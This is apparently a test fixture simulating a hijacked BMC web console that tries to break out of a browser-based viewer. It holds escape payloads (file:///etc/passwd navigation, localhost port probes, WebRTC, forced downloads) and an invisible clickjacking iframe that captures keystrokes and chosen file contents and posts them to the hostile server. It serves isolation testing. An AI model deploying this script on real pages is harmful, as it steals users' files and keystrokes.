import { type BmcPages, NOT_FOUND } from './bmc-site.ts';
import { CLINGING, consolePage } from './console-page.ts';

/** What a page can try to leave by, as text of JavaScript; `%PORT%` is somebody else's. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  file: "location.href = 'file:///etc/passwd'",
  chrome: "location.href = 'chrome://version'",
  source: "location.href = 'view-source:' + location.href",
  data: "location.href = 'data:text/html,away'",
  fetch: "fetch('https://127.0.0.1:%PORT%/', { mode: 'no-cors' })",
  socket: "new WebSocket('wss://127.0.0.1:%PORT%/')",
  frame:
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://localhost:%PORT%/', hidden: true }))",
  peer: `(() => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:%PORT%?transport=tcp', username: 'u', credential: 'c' }] });
    peer.createDataChannel('d');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  })()`,
  download:
    "Object.assign(document.createElement('a'), { href: '/file.bin', download: 'file.bin' }).click()",
  upload: "Object.assign(document.createElement('input'), { type: 'file' }).click()",
  picker: 'showOpenFilePicker()',
  print: 'print()',
  devtools: "location.href = 'devtools://devtools/bundled/inspector.html'",
};

/**
 * Lies unseen above the console, in a process of its own, and takes every click and key; what the
 * browser does with them is not its to say. It writes itself anew, which ends listeners, and makes
 * nothing of what prevents a default. It does not want to be left.
 */
const FRAME = `<iframe sandbox="allow-scripts allow-forms allow-modals allow-popups" src="/frame"
  style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>`;
const FRAME_PAGE = `<!DOCTYPE html><body><script>
  const tell = (what) => fetch('/frame?' + what, { method: 'POST', mode: 'no-cors' });
  Event.prototype.preventDefault = () => undefined;
  onload = () => {
    document.open();
    document.write('<body><input type="file" style="position:fixed;inset:0;opacity:0">');
    document.close();
    const field = document.querySelector('input');
    field.onclick = () => tell('asked');
    field.oncancel = () => tell('cancelled');
    field.onchange = async () => tell('read=' + encodeURIComponent(await field.files[0].text()));
    addEventListener('keydown', ({ key }) => key.length === 1 && tell('key=' + key));
    ${CLINGING}
  };
</script></body>`;

/** A BMC that has been taken over: its first page tries to get out of the browser, then is a console. */
export function hostileBoard(otherPort: number) {
  return (): BmcPages => ({
    mayConnect: ({ path }) => path === '/kvm',
    answer({ path }) {
      if (path === '/file.bin') {
        const headers = { 'content-disposition': 'attachment; filename=file.bin' };
        return {
          headers: { ...headers, 'content-type': 'application/octet-stream' },
          body: 'bytes',
        };
      }
      if (path === '/tried' || path === '/trying') return { body: '' };
      if (path === '/framed') return { body: consolePage({ socket: '/kvm', around: FRAME }) };
      if (path === '/frame') return { body: FRAME_PAGE };
      if (path !== '/') return NOT_FOUND;
      const tries = Object.entries(ATTEMPTS).map(([name, text]) => {
        const attempt = text.replaceAll('%PORT%', String(otherPort));
        return `try { Promise.resolve(${attempt}).catch(() => undefined); } catch {}
          // What has been begun is under way once something that came after it is there and back.
          await fetch('/trying?' + ${JSON.stringify(name)});
          tried.push(${JSON.stringify(name)});`;
      });
      const script = `(async () => {
        const tried = [];
        ${tries.join('\n')}
        await fetch('/tried?' + tried.join());
      })();`;
      return {
        body: consolePage({ socket: '/kvm', script: script }),
      };
    },
  });
}
